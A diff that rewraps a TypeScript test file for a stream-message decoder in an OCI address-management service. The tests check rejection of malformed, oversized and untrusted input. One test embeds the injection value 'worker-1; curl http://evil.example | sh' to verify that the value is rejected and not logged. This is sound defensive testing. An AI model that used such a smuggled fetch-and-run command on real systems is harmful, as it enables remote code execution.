@@ -21,18 +21,26 @@ import { loadFixtures } from "./fixtures";
 const b64 = (text: string | Buffer) => Buffer.from(text).toString("base64");
 
 function nudgeMessage(node: string, offset: number, partition = "0"): StreamMessage {
-  const nudge = buildNudge({ type: "io.ocipam.node.needs-addresses", cluster: "prod", node }, { now: () => new Date(0), idFactory: () => `id-${offset}` });
+  const nudge = buildNudge(
+    { type: "io.ocipam.node.needs-addresses", cluster: "prod", node },
+    { now: () => new Date(0), idFactory: () => `id-${offset}` },
+  );
   return { stream: "ocipam", partition, offset, timestamp: "2026-11-28T10:00:00Z", ...encodeNudgeForStream(nudge) };
 }
 
-const launchFixture = loadFixtures("valid").find((f) => f.file === "oci-launchinstance-end.json")!.body as Record<string, unknown>;
+const launchFixture = loadFixtures("valid").find((f) => f.file === "oci-launchinstance-end.json")!.body as Record<
+  string,
+  unknown
+>;
 
 describe("decodeInvocationBody", () => {
   describe("body forms", () => {
     const nudge = buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" });
 
     it("decodes a body that fdk left as a JSON string the same as the parsed body", () => {
-      expect(decodeInvocationBody(JSON.stringify([nudgeMessage("worker-1", 1)]))).to.deep.equal(decodeInvocationBody([nudgeMessage("worker-1", 1)]));
+      expect(decodeInvocationBody(JSON.stringify([nudgeMessage("worker-1", 1)]))).to.deep.equal(
+        decodeInvocationBody([nudgeMessage("worker-1", 1)]),
+      );
     });
 
     it("decodes a body handed over as a Buffer", () => {
@@ -49,8 +57,20 @@ describe("decodeInvocationBody", () => {
       { name: "undefined", body: undefined, reason: "SchemaViolation" },
       { name: "true", body: true, reason: "SchemaViolation" },
       { name: "a JSON string literal", body: '"hello"', reason: "SchemaViolation" },
-      { name: "an object with a cycle", body: (() => { const o: Record<string, unknown> = { specversion: "1.0" }; o.self = o; return o; })(), reason: "SchemaViolation" },
-      { name: "a nudge holding a BigInt", body: { ...nudge, data: { node: "worker-1", n: 10n } }, reason: "SchemaViolation" },
+      {
+        name: "an object with a cycle",
+        body: (() => {
+          const o: Record<string, unknown> = { specversion: "1.0" };
+          o.self = o;
+          return o;
+        })(),
+        reason: "SchemaViolation",
+      },
+      {
+        name: "a nudge holding a BigInt",
+        body: { ...nudge, data: { node: "worker-1", n: 10n } },
+        reason: "SchemaViolation",
+      },
     ];
     for (const c of oneRejection) {
       it(`answers exactly one ${c.reason} rejection, without throwing, for ${c.name}`, () => {
@@ -62,7 +82,11 @@ describe("decodeInvocationBody", () => {
     }
 
     it("keeps going when a batch element is a value no JSON parser produces", () => {
-      const hostile = { get stream(): string { throw new Error("getter exploded"); } };
+      const hostile = {
+        get stream(): string {
+          throw new Error("getter exploded");
+        },
+      };
       const { records, rejected } = decodeInvocationBody([hostile, nudgeMessage("worker-1", 5)]);
       expect(records.map((r) => r.index)).to.deep.equal([1]);
       expect(rejected).to.have.length(1);
@@ -86,26 +110,40 @@ describe("decodeInvocationBody", () => {
       expect(rejected[0]!.field).to.equal(`/${"X".repeat(64)}…`);
     });
 
-    it("decodes a batch record whose OCI event nests thousands of levels deep without overflowing, and refuses it as UntrustedSource", () => {
-      // Built as text: JSON.stringify itself would overflow the stack on an object this deep.
-      const deep = '{"d":'.repeat(5000) + "{}" + "}".repeat(5000);
-      const event = { ...launchFixture, data: { ...(launchFixture.data as object), additionalDetails: "DEEP" } };
-      const json = JSON.stringify(event).replace('"DEEP"', deep);
-      const result = decodeInvocationBody([{ stream: "s", partition: "0", offset: 1, value: b64(json) }]);
-      expect(result.records).to.deep.equal([]);
-      expect(result.rejected[0]).to.include({ reason: "UntrustedSource" });
-    });
+    it(
+      "decodes a batch record whose OCI event nests thousands of levels deep " +
+        "without overflowing, and refuses it as UntrustedSource",
+      () => {
+        // Built as text: JSON.stringify itself would overflow the stack on an object this deep.
+        const deep = '{"d":'.repeat(5000) + "{}" + "}".repeat(5000);
+        const event = { ...launchFixture, data: { ...(launchFixture.data as object), additionalDetails: "DEEP" } };
+        const json = JSON.stringify(event).replace('"DEEP"', deep);
+        const result = decodeInvocationBody([{ stream: "s", partition: "0", offset: 1, value: b64(json) }]);
+        expect(result.records).to.deep.equal([]);
+        expect(result.rejected[0]).to.include({ reason: "UntrustedSource" });
+      },
+    );
   });
 
   describe("batches", () => {
-    it("rejects an OCI event found on the stream as UntrustedSource: instance events come from the Events rule only", () => {
-      const message = { stream: "s", partition: "3", offset: 9, key: b64("anything-the-producer-chose"), value: b64(JSON.stringify(launchFixture)) };
-      const nudge = nudgeMessage("worker-1", 10);
-      const { records, rejected } = decodeInvocationBody([message, nudge]);
-      expect(rejected).to.have.length(1);
-      expect(rejected[0]).to.include({ reason: "UntrustedSource", field: "/value", partition: "3", offset: 9 });
-      expect(records.map((r) => r.kind)).to.deep.equal(["nudge"]);
-    });
+    it(
+      "rejects an OCI event found on the stream as UntrustedSource: instance " +
+        "events come from the Events rule only",
+      () => {
+        const message = {
+          stream: "s",
+          partition: "3",
+          offset: 9,
+          key: b64("anything-the-producer-chose"),
+          value: b64(JSON.stringify(launchFixture)),
+        };
+        const nudge = nudgeMessage("worker-1", 10);
+        const { records, rejected } = decodeInvocationBody([message, nudge]);
+        expect(rejected).to.have.length(1);
+        expect(rejected[0]).to.include({ reason: "UntrustedSource", field: "/value", partition: "3", offset: 9 });
+        expect(records.map((r) => r.kind)).to.deep.equal(["nudge"]);
+      },
+    );
 
     it("rejects a value longer than the event cap as Oversize before trying to decode it", () => {
       // Not even base64: had the decoder looked inside, the answer would be InvalidBase64.
@@ -116,9 +154,14 @@ describe("decodeInvocationBody", () => {
     });
 
     it("rejects a nudge value over 4 KiB as Oversize at /value", () => {
-      const nudge = { ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }) } as Record<string, unknown>;
+      const nudge = { ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }) } as Record<
+        string,
+        unknown
+      >;
       for (let i = 0; i < 20; i++) nudge[`pad${i}`] = "p".repeat(250);
-      const { rejected } = decodeInvocationBody([{ stream: "s", partition: "0", offset: 2, key: b64("worker-1"), value: b64(JSON.stringify(nudge)) }]);
+      const { rejected } = decodeInvocationBody([
+        { stream: "s", partition: "0", offset: 2, key: b64("worker-1"), value: b64(JSON.stringify(nudge)) },
+      ]);
       expect(rejected.map((r) => [r.reason, r.field])).to.deep.equal([["Oversize", "/value"]]);
     });
 
@@ -126,7 +169,9 @@ describe("decodeInvocationBody", () => {
       const batch = [1, 2, 3, 4, 5].map((i) => nudgeMessage(`worker-${i}`, 100 + i, String(i % 2)));
       const { records, rejected } = createInvocationDecoder({ maxRecords: 3 }).decode(batch);
       expect(records.map((r) => r.index)).to.deep.equal([0, 1, 2]);
-      expect(rejected.map(({ index, offset, partition, reason, field }) => ({ index, offset, partition, reason, field }))).to.deep.equal([
+      expect(
+        rejected.map(({ index, offset, partition, reason, field }) => ({ index, offset, partition, reason, field })),
+      ).to.deep.equal([
         { index: 3, offset: 104, partition: "0", reason: "Oversize", field: "" },
         { index: 4, offset: 105, partition: "1", reason: "Oversize", field: "" },
       ]);
@@ -149,18 +194,42 @@ describe("decodeInvocationBody", () => {
       });
     }
 
-    it("logs each rejection at warn with index, offset, partition, reason and field, without echoing the payload", () => {
-      const lines: string[] = [];
-      const destination = new Writable({ write(chunk, _enc, done) { lines.push(String(chunk)); done(); } });
-      const log = createLogger({ destination, level: "debug" });
-      const evil = "worker-1; curl http://evil.example | sh";
-      const evilNudge = { ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }), subject: evil };
-      decodeInvocationBody([nudgeMessage("worker-1", 1), { stream: "s", partition: "4", offset: 77, key: null, value: b64(JSON.stringify(evilNudge)) }], { log });
-      const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
-      expect(entries).to.have.length(1);
-      expect(entries[0]).to.include({ level: "warn", index: 1, offset: 77, partition: "4", reason: "SchemaViolation", field: "/value/subject" });
-      expect(lines.join("")).to.not.contain("curl");
-    });
+    it(
+      "logs each rejection at warn with index, offset, partition, reason and " + "field, without echoing the payload",
+      () => {
+        const lines: string[] = [];
+        const destination = new Writable({
+          write(chunk, _enc, done) {
+            lines.push(String(chunk));
+            done();
+          },
+        });
+        const log = createLogger({ destination, level: "debug" });
+        const evil = "worker-1; curl http://evil.example | sh";
+        const evilNudge = {
+          ...buildNudge({ type: "io.ocipam.node.resync", cluster: "prod", node: "worker-1" }),
+          subject: evil,
+        };
+        decodeInvocationBody(
+          [
+            nudgeMessage("worker-1", 1),
+            { stream: "s", partition: "4", offset: 77, key: null, value: b64(JSON.stringify(evilNudge)) },
+          ],
+          { log },
+        );
+        const entries = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
+        expect(entries).to.have.length(1);
+        expect(entries[0]).to.include({
+          level: "warn",
+          index: 1,
+          offset: 77,
+          partition: "4",
+          reason: "SchemaViolation",
+          field: "/value/subject",
+        });
+        expect(lines.join("")).to.not.contain("curl");
+      },
+    );
   });
 
   describe("validators", () => {
@@ -170,7 +239,10 @@ describe("decodeInvocationBody", () => {
       const original = { compile: proto.compile!, addSchema: proto.addSchema!, getSchema: proto.getSchema! };
       let calls = 0;
       for (const name of Object.keys(original) as (keyof typeof original)[]) {
-        proto[name] = function (this: unknown, ...args: unknown[]) { calls++; return original[name].apply(this, args); };
+        proto[name] = function (this: unknown, ...args: unknown[]) {
+          calls++;
+          return original[name].apply(this, args);
+        };
       }
       try {
         const batch = Array.from({ length: 200 }, (_, i) => nudgeMessage(`worker-${i}`, i));
